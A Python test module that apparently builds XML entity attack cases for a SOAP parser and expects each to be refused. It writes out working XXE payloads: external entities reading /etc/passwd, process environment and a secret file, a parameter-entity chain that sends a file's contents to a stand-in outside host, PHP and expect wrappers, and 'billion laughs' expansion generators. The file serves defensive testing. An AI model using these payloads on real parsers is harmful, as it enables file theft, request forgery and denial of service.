"""Entities: what a parser could be made to read, fetch or multiply. SOAP knows none but the five of XML."""

from collections.abc import Iterator
from functools import partial

from attack_cases import CANARY, OUTSIDE, SECRET_FILE, Attack, around, both, envelope, order

from soap import Version

TARGETS = {
    "a file": f"file://{SECRET_FILE}",
    "a path": SECRET_FILE,
    "a relative path": "../../../../etc/passwd",
    "a device without end": "file:///dev/zero",
    "its own memory": "file:///proc/self/environ",
    "HTTP": f"http://{OUTSIDE}/{CANARY}",
    "HTTPS": f"https://{OUTSIDE}/{CANARY}",
    "FTP": f"ftp://{OUTSIDE}/{CANARY}",
    "LDAP": f"ldap://{OUTSIDE}/{CANARY}",
    "gopher": f"gopher://{OUTSIDE}/_{CANARY}",
    "a Windows share": f"\\\\{OUTSIDE.partition(':')[0]}\\share\\{CANARY}",
    "a wrapper of PHP": f"php://filter/convert.base64-encode/resource={SECRET_FILE}",
    "a command": f"expect://{CANARY}",
    "an archive of Java": f"jar:http://{OUTSIDE}/a.jar!/{CANARY}",
    "data": "data:text/plain,canary",
}
OTHER_SUBSETS = {
    "a parameter entity of a file": f'<!ENTITY % p SYSTEM "file://{SECRET_FILE}"> %p;',
    "a parameter entity of HTTP": f'<!ENTITY % p SYSTEM "http://{OUTSIDE}/x.dtd"> %p;',
    "a parameter entity inside another": "<!ENTITY % a '<!ENTITY &#37; b \"x\">'> %a; %b;",
    "a file sent elsewhere": f'<!ENTITY % f SYSTEM "file://{SECRET_FILE}">'
    f"<!ENTITY % w \"<!ENTITY &#37; s SYSTEM 'http://{OUTSIDE}/?%f;'>\"> %w; %s;",
    "an error that tells a file": f'<!ENTITY % f SYSTEM "file://{SECRET_FILE}">'
    "<!ENTITY % w \"<!ENTITY &#37; s SYSTEM 'file:///none/%f;'>\"> %w; %s;",
    "an entity of itself": '<!ENTITY x "&x;">',
    "two entities of each other": '<!ENTITY x "&y;"><!ENTITY y "&x;">',
    "an entity as an attribute's default": '<!ENTITY x "y"><!ATTLIST s:CreateOrder a CDATA "&x;">',
    "an unparsed entity": f'<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "file://{SECRET_FILE}" NDATA n>',
    "an entity that is redefined": '<!ENTITY lt "&#38;#60;"><!ENTITY x "y">',
    "a public entity": f'<!ENTITY x PUBLIC "-//{CANARY}" "http://{OUTSIDE}/x">',
}
REFERENCES = {
    "an entity that nobody declares": f"&{CANARY};",
    "an entity of HTML": "&nbsp;",
    "an entity without an end": f"&{CANARY}",
    "an ampersand alone": "a & b",
    "the character 0": "&#0;",
    "a control character": "&#x1F;",
    "half of a surrogate pair": "&#xD800;",
    "both halves of a surrogate pair": "&#xD83D;&#xDE00;",
    "a noncharacter": "&#xFFFE;",
    "a character beyond Unicode": "&#x110000;",
    "a character beyond all numbers": f"&#{'9' * 5000};",
    "a character without a number": "&#;",
    "a negative character": "&#-1;",
    "a number that is none": "&#xG;",
}


def multiplied(levels: int, width: int, start: str = "lol") -> str:
    """Entities of entities: width ** levels times the start."""
    lines = [f'<!ENTITY x0 "{start}">']
    lines += [f'<!ENTITY x{n} "{f"&x{n - 1};" * width}">' for n in range(1, levels + 1)]
    return "".join(lines) + f'<!ENTITY x "&x{levels};">'


def _document(subset: str, use: str, version: Version) -> str:
    body = order(transaction=use) if use else order()
    return f"<!DOCTYPE e:Envelope [{subset}]>{envelope(body, version=version)}"


def attacks() -> Iterator[Attack]:
    for name, target in TARGETS.items():
        subset = f'<!ENTITY x SYSTEM "{target}">'
        yield from around(f"an entity of {name}", "DtdForbidden", partial(_document, subset, "&x;"))
    for name, subset in OTHER_SUBSETS.items():
        yield from around(name, "DtdForbidden", partial(_document, subset, "&x;" if "ENTITY x " in subset else ""))
    for levels, width in ((1, 10), (3, 10), (9, 10), (30, 2), (4, 100), (100, 100)):
        subset = multiplied(levels, width)
        yield from around(f"{width} to the power of {levels}", "DtdForbidden", partial(_document, subset, "&x;"))
    for size, uses in ((100_000, 10_000), (50_000, 30_000), (1_000, 60_000)):
        subset = f'<!ENTITY x "{"q" * size}">'
        name = f"{size} characters, {uses} times"
        yield from around(name, "DtdForbidden", partial(_document, subset, "&x;" * uses))
    for name, reference in REFERENCES.items():
        yield from both(f"{name} in a value", "Malformed", order(transaction=reference))
    yield from both("a reference in an attribute", "Malformed", order(attributes=f' a="&{CANARY};"'))
    yield from both(
        "a flood of references that are read", "SchemaViolation", lambda: order(transaction="&lt;" * 40_000)
    )
    yield from both("a flood of characters by number", "SchemaViolation", lambda: order(transaction="&#65;" * 40_000))
